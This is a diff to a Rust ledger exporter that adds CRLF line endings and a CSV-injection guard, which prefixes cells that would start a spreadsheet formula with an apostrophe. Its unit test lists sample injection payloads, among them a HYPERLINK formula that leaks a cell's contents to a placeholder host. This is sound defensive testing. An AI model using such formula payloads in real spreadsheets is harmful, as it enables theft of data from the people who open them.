@@ -1,5 +1,11 @@
-//! Writing the ledger as CSV (UTF-8 with a BOM, so Excel reads the Chinese right) or as XLSX,
-//! both onto any `Write` as the lines come, never holding the file.
+//! Writing the ledger as CSV (UTF-8 with a BOM, so Excel reads the Chinese right, and CRLF
+//! line ends as Excel writes them) or as XLSX, both onto any `Write` as the lines come, never
+//! holding the file.
+//!
+//! Ledger cells carry what enterprises typed. A CSV cell that Excel would read as a formula
+//! (`=HYPERLINK(…)`, `+`, `-`, `@`, a tab or a carriage return first, after spaces too) is
+//! written with a leading `'` (OWASP's CSV-injection rule), so it stays text; XLSX cells are
+//! inline strings, which Excel never evaluates.
 //!
 //! The XLSX is SpreadsheetML with inline strings, written through `zip`'s streaming writer
 //! (data descriptors instead of seeking back), so the first bytes leave before the last row is
@@ -27,7 +33,9 @@ pub const BOM: &[u8] = b"\xEF\xBB\xBF";
 impl<W: Write> CsvSheet<W> {
     pub fn new(mut out: W) -> io::Result<Self> {
         out.write_all(BOM)?;
-        let mut writer = csv::Writer::from_writer(out);
+        let mut writer = csv::WriterBuilder::new()
+            .terminator(csv::Terminator::CRLF)
+            .from_writer(out);
         writer.write_record(HEADERS)?;
         Ok(CsvSheet { writer })
     }
@@ -36,12 +44,14 @@ impl<W: Write> CsvSheet<W> {
 impl<W: Write> LedgerSheet for CsvSheet<W> {
     fn line(&mut self, line: &LedgerLine) -> io::Result<()> {
         let days = line.overdue_days.to_string();
-        let record = line
+        let cells: Vec<_> = line
             .text
             .iter()
-            .map(String::as_str)
-            .chain([days.as_str(), line.listed.as_str()]);
-        self.writer.write_record(record)?;
+            .map(|cell| inert_cell(cell))
+            .chain([days.as_str().into(), inert_cell(&line.listed)])
+            .collect();
+        self.writer
+            .write_record(cells.iter().map(|c| c.as_bytes()))?;
         Ok(())
     }
 
@@ -50,6 +60,19 @@ impl<W: Write> LedgerSheet for CsvSheet<W> {
             .into_inner()
             .map_err(|e| e.into_error())?
             .flush()
+    }
+}
+
+/// `text` as a CSV cell that a spreadsheet shows as text: prefixed with `'` when it would
+/// start a formula.
+pub fn inert_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    let starts_formula = text
+        .trim_start_matches(' ')
+        .starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if starts_formula {
+        format!("'{text}").into()
+    } else {
+        text.into()
     }
 }
 
@@ -197,11 +220,38 @@ mod tests {
         sheet.finish().unwrap();
         assert!(out.starts_with(BOM));
         let text = String::from_utf8(out[3..].to_vec()).unwrap();
+        assert!(
+            text.ends_with("\r\n") && text.matches("\r\n").count() == 2,
+            "{text:?}"
+        );
         let mut lines = text.lines();
         assert!(lines.next().unwrap().starts_with("隐患编号,企业名称,"));
         let row = lines.next().unwrap();
         assert!(row.contains(r#""通道堵塞, 需""立即""清理""#), "{row}");
         assert!(row.ends_with(",3,县级挂牌"), "{row}");
+    }
+
+    #[test]
+    fn formulas_are_written_as_text() {
+        for formula in [
+            r#"=HYPERLINK("http://x/?d="&A2,"详情")"#,
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "   =1+1",
+        ] {
+            assert_eq!(inert_cell(formula), format!("'{formula}"));
+        }
+        for plain in ["配电箱未接地", "2026-12-03", "0797-1234567", "a=b", ""] {
+            assert_eq!(inert_cell(plain), plain);
+        }
+        let mut out = Vec::new();
+        let mut sheet = Box::new(CsvSheet::new(&mut out).unwrap());
+        sheet.line(&line("=1+1")).unwrap();
+        sheet.finish().unwrap();
+        assert!(String::from_utf8(out).unwrap().contains(",'=1+1,"));
     }
 
     #[test]
